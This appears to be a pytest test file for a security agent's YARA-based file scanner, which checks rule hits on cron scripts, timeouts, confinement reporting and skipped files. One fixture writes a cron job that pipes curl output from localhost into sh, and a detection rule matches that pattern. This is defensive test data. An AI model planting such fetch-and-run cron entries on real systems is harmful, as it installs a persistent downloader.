import hashlib
import json
import threading
import time
from functools import partialmethod
from pathlib import Path

import pytest
from backports import zstd
from tramgac_agent import lens as module
from tramgac_agent.enrich.hashes import Hash
from tramgac_agent.enrich.identity import PathSource, key_of
from tramgac_agent.lens import Lens
from tramgac_proto.event_pb2 import MECHANISM_AGENT, Event
from tramgac_scan import client
from tramgac_scan.errors import ScanError
from tramgac_scan.parts import CarefulScanner

EDGE = 'rule in_cron { strings: $a = "#!" $b = "curl" condition: $a at 0 and $b and filepath matches /cron/ }'
CONTENT = 'rule anywhere { strings: $a = "#!" condition: $a }'
# Runs on for minutes in spite of YARA's own timeout.
RUNAWAY = 'rule r { strings: $a = /a.{0,1000}b.{0,1000}c.{0,1000}d/s condition: $a or filename == "r" }'
BAD = "rule broken { condition: nonsense }"


def bundle(tmp_path, *files):
    path = tmp_path / "current.json.zst"
    yara = [{"path": f"{i}.yar", "source": text, "content_only": only} for i, (text, only) in enumerate(files)]
    path.write_bytes(zstd.compress(json.dumps({"version": 1, "sigma": {}, "yara": yara}).encode()))
    return path


def written(path):
    source = PathSource(str(path))
    with path.open("rb") as file:
        hashed = Hash((source,), key_of(file.fileno()), str(path), strict=False)
    hashed.sha256 = hashlib.sha256(path.read_bytes()).digest()
    hashed.done = True
    event = Event(time=5, skew=1, boot=2, content=3)
    event.file_write.path = str(path)
    event.file_write.process.pid = 77
    return hashed, event


@pytest.fixture
def lens():
    it = Lens()
    yield it
    it.close()


@pytest.fixture
def script(tmp_path):
    folder = tmp_path / "cron.d"
    folder.mkdir()
    path = folder / "job"
    path.write_text("#!/bin/sh\ncurl http://127.0.0.1/x | sh\n")
    return path


def settled(lens):
    """All that was asked has been looked at."""
    lens.close()
    return lens.take()


def test_a_file_that_meets_a_rule_about_its_path_is_a_hit(lens, tmp_path, script):
    lens.reload(bundle(tmp_path, (EDGE, False), (CONTENT, True)))
    lens.ask(*written(script))
    (hit,) = settled(lens)
    assert (hit.time, hit.skew, hit.boot, hit.content, hit.mechanism) == (5, 1, 2, 3, MECHANISM_AGENT)
    assert (hit.scan_hit.rule, hit.scan_hit.path, hit.scan_hit.process.pid) == ("in_cron", str(script), 77)
    assert not hit.scan_hit.HasField("above")
    assert hit.scan_hit.sha256 == hashlib.sha256(script.read_bytes()).digest()
    assert dict(zip(hit.scan_hit.strings, hit.scan_hit.offsets, strict=True)) == {"$a": 0, "$b": 10}


def test_the_parent_that_no_start_tells_is_handed_on(lens, tmp_path, script):
    lens.reload(bundle(tmp_path, (EDGE, False)))
    done, event = written(script)
    event.file_write.above.executable = "/usr/sbin/sshd"
    lens.ask(done, event)
    (hit,) = settled(lens)
    assert hit.scan_hit.above.executable == "/usr/sbin/sshd"


def test_all_externals_are_told(lens, tmp_path, script):
    asks = 'filename == "job" and extension == "" and filetype == "SCRIPT" and owner != "" and filepath endswith "/job"'
    lens.reload(bundle(tmp_path, (f"rule outside {{ condition: {asks} }}", False)))
    lens.ask(*written(script))
    (hit,) = settled(lens)
    assert hit.scan_hit.rule == "outside"


def test_the_same_content_elsewhere_is_none(lens, tmp_path, script):
    other = tmp_path / "job"
    script.rename(other)
    lens.reload(bundle(tmp_path, (EDGE, False)))
    lens.ask(*written(other))
    assert settled(lens) == []
    assert (lens.loaded, lens.refused) == (1, 0)


def test_without_edge_rules_there_is_neither_thread_nor_child(lens, tmp_path, script):
    lens.reload(bundle(tmp_path, (CONTENT, True)))
    lens.ask(*written(script))
    assert lens._thread is None
    assert lens.take() == []


def test_rules_that_do_not_compile_leave_those_before(lens, tmp_path, script, caplog):
    lens.reload(bundle(tmp_path, (EDGE, False)))
    lens.reload(bundle(tmp_path, (BAD, False)))
    lens.ask(*written(script))
    assert [e.scan_hit.rule for e in settled(lens)] == ["in_cron"]
    assert "edge rules are not taken into use" in caplog.text


def test_layers_of_confinement_are_told(lens, tmp_path, monkeypatch, caplog):
    lens.reload(bundle(tmp_path, (EDGE, False)))
    settled(lens)
    told = lens.standing()
    assert (told.rules, told.trouble) == (1, "")
    assert {*told.held, *told.missing} >= {"network", "capabilities", "seccomp"}
    monkeypatch.setattr(client.Scanner, "missing", ("user",))
    lens.reload(bundle(tmp_path, (EDGE, False)))
    settled(lens)
    assert lens.standing().missing == ("user",)
    assert "without these layers of confinement: user" in caplog.text


def test_a_child_that_refuses_to_scan_is_said_and_files_are_counted(lens, tmp_path, script, monkeypatch):
    def refuse(*_):
        raise ScanError("it could not give up its capabilities")

    monkeypatch.setattr(client.Scanner, "_start", refuse)
    lens.reload(bundle(tmp_path, (EDGE, False)))
    lens.ask(*written(script))
    assert settled(lens) == []
    assert lens.standing().trouble == "it could not give up its capabilities"
    assert (lens.loaded, lens.refused) == (0, 1)


def test_a_rule_that_runs_away_is_said_and_the_next_file_is_looked_at(lens, tmp_path, script, caplog, monkeypatch):
    monkeypatch.setattr(client.Limits, "__init__", partialmethod(client.Limits.__init__, seconds=1, grace=0.2))
    wild = tmp_path / "wild"
    wild.write_bytes(b"ab" * 20_000)
    lens.reload(bundle(tmp_path, (RUNAWAY, False), (EDGE, False)))
    lens.ask(*written(wild))
    lens.ask(*written(script))
    assert [e.scan_hit.rule for e in settled(lens)] == ["in_cron"]
    assert lens.refused == 1
    assert f"edge rules were not judged on {str(wild)!r}: the YARA rules did not end in time" in caplog.text
    assert "(0.yar)" in caplog.text, "the other rule was"


def test_rules_that_are_withdrawn_hit_no_longer(lens, tmp_path, script):
    lens.reload(bundle(tmp_path, (EDGE, False)))
    lens.reload(bundle(tmp_path))
    lens.ask(*written(script))
    assert settled(lens) == []


def test_a_file_that_is_gone_or_another_is_refused_and_counted(lens, tmp_path, script):
    lens.reload(bundle(tmp_path, (EDGE, False)))
    changed = written(script)
    script.write_text("#!/bin/sh\ncurl http://127.0.0.1/other | sh\n")
    lens.ask(*changed)
    gone = written(script)
    lens.ask(*gone)
    _until(lambda: lens._hits)
    script.unlink()
    lens.ask(*gone)
    assert [e.scan_hit.rule for e in settled(lens)] == ["in_cron"]
    assert lens.refused == 2


def test_while_the_child_is_slow_files_are_skipped_and_counted_and_rules_wait_for_no_room(
    lens, tmp_path, script, monkeypatch
):
    busy, free, scan = threading.Event(), threading.Event(), CarefulScanner.scan

    def slow(*arguments):
        busy.set()
        free.wait(30)
        return scan(*arguments)

    monkeypatch.setattr(module, "_WAITING", 2)
    monkeypatch.setattr(CarefulScanner, "scan", slow)
    lens.reload(bundle(tmp_path, (EDGE, False)))
    lens.ask(*written(script))
    assert busy.wait(10)
    for _ in range(5):
        lens.ask(*written(script))
    assert lens.standing().skipped == 3
    lens.reload(bundle(tmp_path, (CONTENT, False)))  # with two files before it, it would wait for room
    threading.Timer(0.1, free.set).start()
    assert [e.scan_hit.rule for e in settled(lens)] == ["in_cron"] * 3
    assert (lens.loaded, lens.refused) == (1, 0)


def test_a_job_that_fails_is_counted_and_the_next_is_done(lens, tmp_path, script, monkeypatch):
    failures = [RuntimeError("not foreseen")]
    scan = CarefulScanner.scan

    def once(*arguments):
        if failures:
            raise failures.pop()
        return scan(*arguments)

    monkeypatch.setattr(CarefulScanner, "scan", once)
    lens.reload(bundle(tmp_path, (EDGE, False)))
    lens.ask(*written(script))
    lens.ask(*written(script))
    assert [e.scan_hit.rule for e in settled(lens)] == ["in_cron"]
    assert lens.refused == 1


def _until(condition):
    deadline = time.monotonic() + 10
    while not condition() and time.monotonic() < deadline:
        time.sleep(0.005)


def test_our_own_edge_rule_hits_what_it_is_for(lens, tmp_path, script):
    rule = Path(__file__).parents[2] / "rules/content/yara/downloader_in_start_folder.yar"
    lens.reload(bundle(tmp_path, (rule.read_text(), False)))
    lens.ask(*written(script))
    assert [e.scan_hit.rule for e in settled(lens)] == ["downloader_in_start_folder"]
